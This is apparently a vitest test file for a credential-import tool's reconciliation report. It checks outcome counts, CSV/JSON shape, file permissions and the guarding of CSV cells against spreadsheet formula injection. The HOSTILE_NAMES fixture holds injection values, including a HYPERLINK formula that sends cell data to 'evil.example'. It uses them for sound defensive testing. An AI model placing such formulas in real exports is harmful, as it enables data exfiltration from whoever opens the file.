import { readFile, stat } from 'node:fs/promises';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { generateCredentialKeyPair } from '../../../fixtures/software-authenticator.js';
import type { ExportRecord } from '../../../fixtures/export-record.js';
import type { BuiltReport } from '../../../src/report/build-report.js';
import { exitCodeFor } from '../../../src/report/report-record.js';
import type { RecordEntry } from '../../../src/run/record-entry.js';
import type { FileProgress } from '../../../src/run/run-store.js';
import { authenticatorsPath, base64UserId, createBody, newRegistration, simRequest } from '../../helpers/sim-http.js';
import { ingestFiles, reportOf, startReportEnv, TENANT, workUntilDone, writeCsvExport, type ReportEnv } from './report-harness.js';
import { parseReport, type ReportJson } from './report-schema.js';

const API_KEY = 'report-outcomes-key-5f1c9e0d7a2b4c6e';
const ALICE = base64UserId('alice');
const BOB = base64UserId('bob');
const CAROL = base64UserId('carol');
const GHOST = base64UserId('ghost'); // not a user of the tenant: STA answers 404
const RUN_ID = 'run-outcomes';

const HOSTILE_NAMES = {
  'cms-1': '=HYPERLINK("http://evil.example/?x="&A1,"open")',
  'cms-2': '+1',
  'cms-3': '@x',
  'cms-4': '-2',
  'cms-5': 'tab\tinside',
  'direct-1': '\t=1+2',
  'direct-2': '\r@SUM(A1)',
} as const;

/** A CSV cell as the report wrote it, with the formula guard (a leading apostrophe) removed. */
function unguard(cell: string): string {
  return /^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell;
}

describe('reconciliation report of a run with every outcome', () => {
  let env: ReportEnv;
  let exportPath: string;
  const payloads: string[] = [];
  let first: BuiltReport;
  let json: ReportJson;
  let jsonText: string;
  let csvText: string;
  let htmlText: string;

  beforeAll(async () => {
    env = await startReportEnv(API_KEY, { users: [ALICE, BOB, CAROL] });
    const keyPair = generateCredentialKeyPair();
    const regs = Array.from({ length: 10 }, () => newRegistration(keyPair));
    const reg = (i: number) => regs[i]!;
    for (const r of regs) payloads.push(r.attestationObject, r.clientDataJson);

    // Already in STA before the run: reg 5 on carol (→ already-imported), reg 6 on bob (→ conflict for alice).
    for (const [user, r] of [[CAROL, reg(5)], [BOB, reg(6)]] as const) {
      const reply = await simRequest(env.sim.url, authenticatorsPath(TENANT, user), { method: 'POST', apiKey: API_KEY, body: createBody(r, 'pre-existing') });
      expect(reply.status).toBeLessThan(300);
    }
    const row = (userId: string, i: number, externalId: string, friendlyName: string): ExportRecord => ({
      userId,
      attestationObject: reg(i).attestationObject,
      clientDataJson: reg(i).clientDataJson,
      friendlyName,
      externalId,
    });
    exportPath = await writeCsvExport(join(env.dir, 'export.csv'), [
      row(ALICE, 0, 'cms-1', HOSTILE_NAMES['cms-1']),
      row(ALICE, 1, 'cms-2', HOSTILE_NAMES['cms-2']),
      row(BOB, 2, 'cms-3', HOSTILE_NAMES['cms-3']),
      row(BOB, 3, 'cms-4', HOSTILE_NAMES['cms-4']),
      row(BOB, 4, 'cms-5', HOSTILE_NAMES['cms-5']),
      row(CAROL, 5, 'cms-6', 'Carol key'),
      row(ALICE, 6, 'cms-7', 'Not hers'),
      row(GHOST, 7, 'cms-8', 'Ghost key'),
      { ...row(ALICE, 8, 'cms-9', 'Broken'), attestationObject: 'bm90LWFuLWF0dGVzdGF0aW9u' },
      row(ALICE, 0, 'cms-10', 'Same as cms-1'),
    ]);
    await ingestFiles(env, RUN_ID, [exportPath]);
    await workUntilDone(env, RUN_ID);

    // A later file of the same run, with no worker running: its record stays pending.
    const laterPath = await writeCsvExport(join(env.dir, 'later.csv'), [row(ALICE, 9, 'cms-11', 'Later')]);
    await ingestFiles(env, RUN_ID, [laterPath]);

    // Leading tab / CR cannot come through ingest (pre-flight trims): write such records and
    // their ledger outcomes directly, as a worker would.
    const now = new Date();
    const file: FileProgress = {
      name: 'direct.csv',
      path: '/nonexistent/direct.csv',
      sha256: 'd'.repeat(64),
      format: 'csv',
      bytes: 0,
      recordsCommitted: 2,
      done: true,
      startedAt: now.toISOString(),
      finishedAt: now.toISOString(),
    };
    const direct = (['direct-1', 'direct-2'] as const).map(
      (externalId, i): RecordEntry => ({
        source: `direct.csv:${i + 2}`,
        externalId,
        tenantCode: TENANT,
        userId: BOB,
        credentialId: `ZGlyZWN0LWNyZWRlbnRpYWwt${i}`,
        friendlyName: HOSTILE_NAMES[externalId],
        state: null,
        ingestOutcome: 'pending',
        message: null,
        warnings: [],
        jobId: `${RUN_ID}.direct-${i}`,
      }),
    );
    await env.runStore.commitBatch(RUN_ID, file, direct, now);
    for (const entry of direct) {
      await env.runStore.recordOutcome(
        RUN_ID,
        {
          jobId: entry.jobId ?? '',
          outcome: { outcome: 'imported', httpStatus: 201, message: null, attempts: 1, staId: entry.credentialId, staState: 'pending', at: now.toISOString() },
          breakerCode: null,
          breakerThreshold: 5,
        },
        now,
      );
    }

    first = await reportOf(env, RUN_ID, join(env.dir, 'reports'));
    [jsonText, csvText, htmlText] = await Promise.all([readFile(first.paths.json, 'utf8'), readFile(first.paths.csv, 'utf8'), readFile(first.paths.html, 'utf8')]);
    json = parseReport(jsonText);
  }, 60_000);

  afterAll(async () => {
    await env.close();
  });

  const byExternalId = (externalId: string) => {
    const record = json.records.find((item) => item.externalId === externalId);
    if (!record) throw new Error(`no record ${externalId}`);
    return record;
  };

  it('writes report.json in the documented shape with every input record once, in source order', () => {
    expect(json.runId).toBe(RUN_ID);
    expect(json.files).toEqual([exportPath, join(env.dir, 'later.csv'), 'direct.csv']);
    expect(json.records.map((record) => record.externalId)).toEqual([
      ...Array.from({ length: 11 }, (_, i) => `cms-${i + 1}`),
      'direct-1',
      'direct-2',
    ]);
    expect(json.records.slice(0, 10).map((record) => record.source)).toEqual(Array.from({ length: 10 }, (_, i) => `${exportPath}:${i + 2}`));
  });

  it('counts each outcome, with total = records read', () => {
    expect(json.summary).toEqual({
      total: 13,
      imported: 7,
      alreadyImported: 1,
      conflict: 1,
      failed: 1,
      invalid: 1,
      duplicate: 1,
      pending: 1,
      verified: { present: 0, missing: 0, notChecked: 13, importedButMissing: 0 },
    });
    expect(first.summary).toEqual(json.summary);
    expect(exitCodeFor(first.summary)).toBe(1);
  });

  it('joins each record with its outcome, STA status and message', () => {
    for (const id of ['cms-1', 'cms-2', 'cms-3', 'cms-4', 'cms-5']) {
      expect(byExternalId(id)).toMatchObject({ outcome: 'imported', httpStatus: 200, message: null, attempts: 1, sta: { state: 'pending', verified: 'notChecked' } });
    }
    expect(byExternalId('cms-1')).toMatchObject({ tenantCode: TENANT, userId: ALICE, friendlyName: HOSTILE_NAMES['cms-1'] });
    expect(byExternalId('cms-6')).toMatchObject({ outcome: 'already-imported', httpStatus: 409, userId: CAROL });
    expect(byExternalId('cms-7')).toMatchObject({ outcome: 'conflict', httpStatus: 409 });
    expect(byExternalId('cms-7').message).toContain('registered to another user');
    expect(byExternalId('cms-8')).toMatchObject({ outcome: 'failed', httpStatus: 404, message: `base64 userId ‘${GHOST}’ was not found.` });
    expect(byExternalId('cms-9')).toMatchObject({ outcome: 'invalid', httpStatus: null, attempts: 0, credentialId: null });
    expect(byExternalId('cms-9').message).toEqual(expect.any(String));
    expect(byExternalId('cms-10')).toMatchObject({ outcome: 'duplicate', httpStatus: null, message: `same credential as ${exportPath}:2; only the first is imported` });
    expect(byExternalId('cms-10').credentialId).toBe(byExternalId('cms-1').credentialId);
  });

  it('reports the record of a run still in progress as pending, its job waiting in the queue', () => {
    expect(json.finishedAt).toBeNull();
    expect(byExternalId('cms-11')).toMatchObject({ outcome: 'pending', httpStatus: null, message: null, attempts: 0 });
  });

  it('writes one CSV row per record, the same records as report.json', () => {
    const rows = parseCsv(csvText);
    const [header, ...body] = rows;
    expect(header).toEqual(['source', 'externalId', 'tenantCode', 'userId', 'credentialId', 'friendlyName', 'outcome', 'httpStatus', 'message', 'attempts', 'warnings', 'staState', 'verified']);
    expect(body).toHaveLength(json.records.length);
    body.forEach((cells, i) => {
      const record = json.records[i]!;
      const expected = [
        record.source,
        record.externalId,
        record.tenantCode,
        record.userId,
        record.credentialId,
        record.friendlyName,
        record.outcome,
        record.httpStatus,
        record.message,
        record.attempts,
        record.warnings.join('; '),
        record.sta.state,
        record.sta.verified,
      ].map((value) => (value === null ? '' : String(value)));
      expect(cells.map(unguard)).toEqual(expected);
    });
  });

  it('neutralises every CSV cell a spreadsheet would run as a formula', () => {
    const rows = parseCsv(csvText);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const friendly = new Map(rows.slice(1).map((cells) => [cells[1], cells[5]]));
    expect(friendly.get('cms-1')).toBe(`'${HOSTILE_NAMES['cms-1']}`);
    expect(friendly.get('cms-2')).toBe("'+1");
    expect(friendly.get('cms-3')).toBe("'@x");
    expect(friendly.get('cms-4')).toBe("'-2");
    expect(friendly.get('cms-5')).toBe('tab\tinside');
    expect(friendly.get('direct-1')).toBe("'\t=1+2");
    expect(friendly.get('direct-2')).toBe("'\r@SUM(A1)");
  });

  it('writes every file with mode 0600', async () => {
    for (const path of [first.paths.json, first.paths.csv, first.paths.html]) {
      expect(((await stat(path)).mode & 0o777).toString(8)).toBe('600');
    }
  });

  it('keeps the API key and the attestation payloads out of every file', () => {
    expect(payloads).toHaveLength(20);
    for (const text of [jsonText, csvText, htmlText]) {
      expect(text).not.toContain(API_KEY);
      for (const payload of payloads) expect(text).not.toContain(payload);
    }
  });

  it('gives the same records when the report is built again', async () => {
    const again = await reportOf(env, RUN_ID, join(env.dir, 'reports-again'));
    const second = parseReport(await readFile(again.paths.json, 'utf8'));
    expect(second.records).toEqual(json.records);
    expect(second.summary).toEqual(json.summary);
  });
});
